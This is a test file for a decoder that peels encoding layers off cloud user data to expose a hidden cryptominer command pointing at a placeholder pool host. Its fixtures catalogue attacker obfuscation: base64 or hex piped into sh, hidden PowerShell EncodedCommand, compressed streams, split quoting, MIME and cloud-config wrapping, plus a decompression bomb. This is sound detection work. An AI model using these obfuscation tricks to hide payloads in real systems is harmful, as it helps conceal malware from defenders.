import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import * as fc from "fast-check";
import { layersOf } from "../../payloads/decoders/decode";
import { runs, sampled } from "../depth";

const script = "#!/bin/sh\n./worker -o stratum+tcp://pool.contoso.com:3333\n";
const needle = "stratum+tcp://pool.contoso.com:3333";

const base64 = (data: string | Buffer): string => Buffer.from(data as string).toString("base64");
const lines = (text: string): string => (text.match(/.{1,76}/g) ?? []).join("\n");
const hex = (text: string): string => Buffer.from(text).toString("hex");
const utf16 = (text: string): string => Buffer.from(text, "utf16le").toString("base64");
const octal = (text: string): string =>
  Array.from(text, sign => `\\${sign.charCodeAt(0).toString(8).padStart(3, "0")}`).join("");
const escaped = (text: string): string =>
  text.replace(/./g, sign => `\\x${sign.charCodeAt(0).toString(16).padStart(2, "0")}`);
const percent = (text: string): string =>
  text.replace(/./g, sign => `%${sign.charCodeAt(0).toString(16).padStart(2, "0")}`);

const mime = (parts: readonly string[], end = "--edge--\n"): string =>
  `Content-Type: multipart/mixed; boundary="edge"\nMIME-Version: 1.0\n\n${parts.map(part => `--edge\n${part}\n`).join("")}${end}`;
const shellPart = `Content-Type: text/x-shellscript\nContent-Transfer-Encoding: base64\n\n${lines(base64(script))}`;

const noise = Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919 + (i >> 3) * 104729) & 0xff));

/** Each hides the same address in a way that attackers use. */
const hidden: Record<string, string> = {
  plain: script,
  base64: base64(script),
  "base64 in lines": lines(base64(script.repeat(5))),
  "base64 in lines, in a document": `cat <<EOF | base64 -d | sh\n${lines(base64(script.repeat(5)))}\nEOF\n`,
  "base64 within a command": `echo ${base64(script)} | base64 -d | bash`,
  "base64 for addresses": `data=${base64(script).replaceAll("+", "-").replaceAll("/", "_")}`,
  "base64 in base64 in base64": base64(`echo ${base64(`echo ${base64(script)}`)}`),
  "gzip in base64": base64(gzipSync(script)),
  "gzip in base64, torn off": base64(gzipSync(script.repeat(3)).subarray(0, -9)),
  "zlib in base64": base64(deflateSync(script)),
  "PowerShell's deflate in base64": `[IO.Compression.DeflateStream]::new([Convert]::FromBase64String('${base64(deflateRawSync(script.repeat(3)))}'))`,
  "a program in base64": base64(
    Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01\0\0\0\0", "latin1"), noise, Buffer.from(`\0${needle}\0`)]),
  ),
  "hexadecimal digits": `echo ${hex(script)} | xxd -r -p | sh`,
  "PowerShell's encoded command": `powershell.exe -NoP -w hidden -EncodedCommand ${utf16(needle)}`,
  "PowerShell's encoded command, shortened": `powershell -e ${utf16(needle)}`,
  "\\x escapes": `printf '${escaped(needle)}'`,
  "octal escapes": `printf "${octal(needle)}"`,
  "unicode escapes in JSON": `{"commandToExecute": "${needle.replace("s", "\\u0073")}"}`,
  "percent encoding": `curl https://contoso.com/?u=${percent(needle)}`,
  "empty quotes in words": `./worker -o str""atum+tcp://po''ol.contoso.com:3333`,
  "quotes round parts of words": `./worker -o s"tra"tum+tcp://pool.'contoso'.com:3333`,
  "backslashes in words": "./worker -o str\\atum+tcp://pool.c\\ontoso.com:3333",
  "carets in words": "worker.exe -o str^atum+tcp://pool.con^toso.com:3333",
  "joined literals": "$a = 'stratum+tcp://po' + 'ol.contoso.com:3333'",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's own variables
  "shell variables": "A=stratum+tcp; B='pool.contoso.com'\n./worker -o $A://${B}:3333",
  "a line that goes on": "./worker -o \\\n  stratum+tcp://pool.contoso.com:3333",
  "a MIME part": mime([shellPart]),
  "a MIME part without an end": mime([shellPart], ""),
  "a MIME part in quoted-printable": mime([
    `Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n${needle.replace("=", "=3D").replace("pool", "po=\nol")}`,
  ]),
  "a MIME part in a MIME part": mime([`${mime([shellPart]).replaceAll("edge", "inner")}`]),
  "cloud-config: a file": `#cloud-config\nwrite_files:\n- path: /x\n  encoding: gz+b64\n  content: ${base64(gzipSync(script))}\n`,
  "cloud-config: a file in lines": `#cloud-config\nwrite_files:\n- encoding: b64\n  path: /x\n  content: |\n    ${lines(base64(script.repeat(4))).replaceAll("\n", "\n    ")}\n`,
  "cloud-config: binary": `#cloud-config\nwrite_files:\n- content: !!binary |\n    ${base64(script)}\n  path: /x\n`,
  "cloud-config: folded": '#cloud-config\nruncmd:\n- "./worker -o stratum+\\\n   tcp://pool.contoso.com:3333"\n',
  "cloud-config: everything in base64 of gzip": base64(
    gzipSync(`#cloud-config\nwrite_files:\n- encoding: b64\n  content: ${base64(script)}\n`),
  ),
};

describe("payloads: what is hidden is found", () => {
  for (const [how, text] of Object.entries(hidden))
    it(how, () => {
      const { texts, cutOff } = layersOf(text);
      assert.ok(
        texts.some(layer => layer.includes(needle)),
        JSON.stringify(texts).slice(0, 600),
      );
      assert.equal(texts[0], text);
      assert.equal(cutOff, undefined);
    });

  it("a command given as a list of words is one line", () => {
    const { texts } = layersOf('#cloud-config\nruncmd:\n- [./worker, "-o", pool.contoso.com]\n');
    assert.ok(texts.includes("./worker -o pool.contoso.com"));
  });
});

describe("payloads: bounds", () => {
  it("an ordinary script yields hardly more than itself", () => {
    const plain = "#!/bin/bash\nset -e\napt-get update\napt-get install -y nginx\nsystemctl enable nginx\n";
    assert.deepEqual(layersOf(plain), { texts: [plain] });
    const paths = "cp /usr/local/share/applications/contoso /var/lib/cloud/instance/scripts/part";
    assert.deepEqual(layersOf(paths).texts, [paths]);
  });

  const wrapped = (times: number): string => {
    let text = script;
    for (let i = 0; i < times; i++) text = `echo ${base64(text)}`;
    return text;
  };

  it("encodings in encodings end somewhere, and it is said", () => {
    assert.ok(layersOf(wrapped(7)).texts.some(text => text.includes(needle)));
    assert.match(layersOf(wrapped(20)).cutOff ?? "", /deep/);
  });

  it("an archive that unpacks to gigabytes is cut off, and its beginning is read", () => {
    const bomb = gzipSync(Buffer.concat([Buffer.from(script), Buffer.alloc(64 * 1024 * 1024, "a")]), { level: 9 });
    const { texts, cutOff } = layersOf(base64(bomb));
    assert.match(cutOff ?? "", /larger than 4 MB/);
    assert.ok(texts.some(text => text.includes(needle)));
    assert.ok(texts.reduce((sum, text) => sum + text.length, 0) < 6 * 1024 * 1024);
  });

  it("megabytes of one kind of sign are no fault", () => {
    for (const unit of sampled(["a", "af", "%61", "\\x61", "'a'", '""', "^a", "a\n"], 4)) {
      const { texts } = layersOf(unit.repeat(4_000_000 / unit.length));
      assert.ok(texts.length > 0, unit);
    }
  });

  it("many parts that may be archives are cut off, and it is said", () => {
    // what may be a deflated stream, and is none: checksums of packages
    const checksums = (count: number) =>
      Array.from({ length: count }, (_, i) => `sha512-${createHash("sha512").update(`${i}`).digest("base64")}`).join(
        "\n",
      );
    assert.match(layersOf(checksums(6000)).cutOff ?? "", /1000 parts may be archives/);
    assert.equal(layersOf(checksums(2000)).cutOff, undefined);
    // shorter ones are none, nor is what stands behind an option that begins with an e
    const short = Array.from({ length: 3000 }, (_, i) => createHash("sha1").update(`${i}`).digest("base64"));
    assert.equal(layersOf(short.join("\n")).cutOff, undefined);
    assert.equal(layersOf("set -e\nhostname render\n".repeat(3000)).cutOff, undefined);
  });

  it("many parts and a long text are cut off, and it is said", () => {
    const many = Array.from({ length: 3000 }, (_, i) => base64(`part number ${i} of many parts`)).join("\n.\n");
    assert.match(layersOf(many).cutOff ?? "", /parts/);
    assert.match(layersOf("a b ".repeat(1_100_000)).cutOff ?? "", /4 MB/);
    assert.match(layersOf(`#cloud-config\nruncmd:\n${"- ls\n".repeat(30_000)}`).cutOff ?? "", /128 KB/);
  });

  it("broken archives, YAML and MIME are no faults", () => {
    for (const text of [
      base64(Buffer.concat([Buffer.from([0x1f, 0x8b]), noise])),
      "#cloud-config\n{[: &a *a !!binary x\n",
      "#cloud-config\na: &a [x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nruncmd: [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\n",
      `#cloud-config\nruncmd: ${"[".repeat(100_000)}`,
      `#cloud-config\nruncmd:\n${"- ".repeat(50_000)}`,
      `#cloud-config\n${Array.from({ length: 400 }, (_, i) => `${" ".repeat(i)}k:\n`).join("")}`,
      "Content-Type: multipart/mixed; boundary=\n\n--\n",
      "%%%%%%2%4%zz \\x \\u00 \\9 ${ $ ' \"",
      "",
    ])
      assert.equal(layersOf(text).texts[0], text);
  });

  it("any text is taken", () =>
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.string({ unit: "binary" }),
            fc.base64String({ minLength: 8 }),
            fc.constantFrom(
              ...Object.values(hidden),
              "--edge",
              "Content-Type: multipart/mixed; boundary=edge",
              "\\x4",
              "'",
              '"',
              "A=$A",
              "\n",
            ),
          ),
          { maxLength: 8 },
        ),
        parts => {
          const text = parts.join("");
          assert.equal(layersOf(text).texts[0], text);
        },
      ),
      { numRuns: runs(500) },
    ));
});
